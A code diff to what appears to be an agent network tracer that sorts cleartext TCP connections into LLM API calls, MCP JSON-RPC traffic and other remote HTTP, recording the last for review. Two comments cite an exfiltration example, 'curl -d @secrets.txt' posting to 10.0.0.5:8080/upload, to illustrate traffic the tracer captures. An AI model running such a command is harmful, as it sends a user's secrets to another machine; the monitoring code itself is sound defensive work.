@@ -5,9 +5,13 @@
  * status line is the server's, the one that starts with a request line the client's — and
  * judged once for everyone: a connection whose client sent a request of an LLM API
  * (`llm/route.ts` `routeApi`: a model call, a token count or a model listing) is an LLM
- * connection, read like a TLS connection into the HTTP and LLM tables (`cleartextLlmConnections`,
- * the client's pid as the connection's, `conn_gen` -1); any other one is left to MCP over HTTP
- * (`mcp/http_messages.ts`). Never both.
+ * connection, read like a TLS connection into the HTTP and LLM tables (`cleartextHttpConnections`,
+ * the client's pid as the connection's, `conn_gen` -1); on loopback any other one is left to
+ * MCP over HTTP (`mcp/http_messages.ts`); off loopback, one whose client sent a JSON-RPC request
+ * body to that server (on it or another connection) is MCP's too, and any other plain HTTP/1 a
+ * traced client makes to another machine (a download, a REST API, an upload — exfiltration
+ * with `curl -d @secrets.txt http://10.0.0.5:8080/upload`) is read into `http_exchanges` like
+ * an LLM connection's, without LLM calls (`isOtherRemoteHttp`). Never two of them.
  *
  * This is how an agent talks to a model server over plain HTTP: on the same machine over
  * loopback (Ollama, LM Studio, vLLM, llama.cpp's server, a LiteLLM proxy), or on another one
@@ -308,6 +312,52 @@ export function isLlmConnection(t: TcpConnection): boolean {
   return !t.http2 && !t.tunnel && speaksLlmApi(t.client);
 }
 
+/** Bytes of each request body looked at for JSON-RPC. */
+const BODY_PEEK = 4096;
+
+/** Whether a client stream POSTs a JSON-RPC request body (up to the first damage). */
+export function sendsJsonRpc(client: TcpStream | undefined): boolean {
+  if (!client) return false;
+  let found = false;
+  let failed = false;
+  let body = "";
+  const p = createHttp1RequestParser({
+    onHead: () => void (body = ""),
+    onBody: (c) => {
+      if (body.length < BODY_PEEK) body += String.fromCharCode(...c.data.subarray(0, BODY_PEEK));
+    },
+    onMessageEnd: () => void (found ||= /^\s*[[{]/.test(body) && body.includes('"jsonrpc"')),
+    onError: () => void (failed = true),
+  });
+  for (const c of client.chunks) {
+    p.feed(c.data);
+    if (found || failed || c.truncated || c.lost > 0n) break;
+  }
+  return found;
+}
+
+/** `recording client-pid address port`: the server a connection's client spoke to. */
+export const serverKey = (t: TcpConnection) => `${t.recording} ${t.clientPid} ${t.addr} ${t.port}`;
+
+/**
+ * Whether a connection off loopback is MCP's by the rule `mcp/http_messages.ts` reads it by:
+ * its client sent a JSON-RPC request body to that server, on it or on another connection
+ * (`mcpServers`: the `serverKey`s of the connections that did).
+ */
+export function isRemoteMcp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
+  return !t.loopback && mcpServers.has(serverKey(t));
+}
+
+/**
+ * Whether a connection is plain HTTP/1 to another machine that is neither an LLM API's nor
+ * MCP's (a download, a REST API, an upload: `curl -d @file http://10.0.0.5:8080/upload`), made
+ * by a traced client: read into `http_exchanges` (no LLM calls) like an LLM connection.
+ */
+export function isOtherRemoteHttp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
+  return !t.loopback && !t.http2 && !t.tunnel && t.client !== undefined &&
+    t.clientPid !== null && !isLlmConnection(t) && !isRemoteMcp(t, mcpServers);
+}
+
 /** A connection's rows and the connection rebuilt from them (as `tls_stream.ts` gives them). */
 export interface ConnectionRows {
   view: TlsView;
@@ -407,22 +457,48 @@ export function tcpChunk(o: Record<string, unknown>): TcpChunk {
   };
 }
 
+/** Each connection of the `ipc` TCP rows in turn (one connection's rows held at a time). */
+async function* tcpConnections(c: DuckDBConnection): AsyncGenerator<TcpConnection> {
+  const result = await c.stream(tcpStreamsSql());
+  let list: TcpChunk[] = [];
+  while (true) {
+    const chunk = await result.fetchChunk();
+    if (!chunk || chunk.rowCount === 0) break;
+    for (const o of chunk.getRowObjects(result.deduplicatedColumnNames())) {
+      const row = tcpChunk(o as Record<string, unknown>);
+      if (list.length && (row.conn !== list[0].conn || row.recording !== list[0].recording)) {
+        yield splitTcpConnection(list);
+        list = [];
+      }
+      list.push(row);
+    }
+  }
+  if (list.length) yield splitTcpConnection(list);
+}
+
 /**
- * The LLM connections among the cleartext TCP connections of `ipc` (on loopback or not), one at
- * a time (one connection's rows held), shaped as TLS connections; their streams that cannot be
- * read go to `problems`.
+ * The cleartext TCP connections of `ipc` read into the HTTP tables, one at a time, shaped as TLS
+ * connections: the LLM connections (on loopback or not), and the other plain HTTP/1 a traced
+ * client made to another machine that is not MCP's (`isOtherRemoteHttp`: its exchanges, no
+ * LLM calls). Their streams that cannot be read go to `problems`. MCP's servers off loopback
+ * are found by a first pass over the rows (a client's JSON-RPC request body may come on a
+ * later connection than its HTTP+SSE stream).
  */
-export async function* cleartextLlmConnections(
+export async function* cleartextHttpConnections(
   c: DuckDBConnection,
   problems: ProblemRow[],
 ): AsyncGenerator<ConnectionRows> {
-  const result = await c.stream(tcpStreamsSql());
-  let list: TcpChunk[] = [];
-  const done = function* (): Generator<ConnectionRows> {
-    if (!list.length) return;
-    const t = splitTcpConnection(list);
-    list = [];
-    if (!isLlmConnection(t)) return;
+  const mcpServers = new Set<string>();
+  for await (const t of tcpConnections(c)) {
+    if (!t.loopback && !t.http2 && sendsJsonRpc(t.client)) mcpServers.add(serverKey(t));
+  }
+  for await (const t of tcpConnections(c)) {
+    if (isOtherRemoteHttp(t, mcpServers)) {
+      for (const p of unreadProblems(t)) problems.push(p);
+      yield cleartextConnection(t);
+      continue;
+    }
+    if (!isLlmConnection(t)) continue;
     if (t.clientPid === null) {
       // its calls would be nobody's (the server's pid is not the caller's): said, not guessed
       const bytes = t.rows.reduce((n, c) => n + c.data.length, 0);
@@ -435,21 +511,9 @@ export async function* cleartextLlmConnections(
           "not read into llm_calls",
         exchange_id: null,
       });
-      return;
+      continue;
     }
     for (const p of unreadProblems(t)) problems.push(p);
     yield cleartextConnection(t);
-  };
-  while (true) {
-    const chunk = await result.fetchChunk();
-    if (!chunk || chunk.rowCount === 0) break;
-    for (const o of chunk.getRowObjects(result.deduplicatedColumnNames())) {
-      const row = tcpChunk(o as Record<string, unknown>);
-      if (list.length && (row.conn !== list[0].conn || row.recording !== list[0].recording)) {
-        yield* done();
-      }
-      list.push(row);
-    }
   }
-  yield* done();
 }
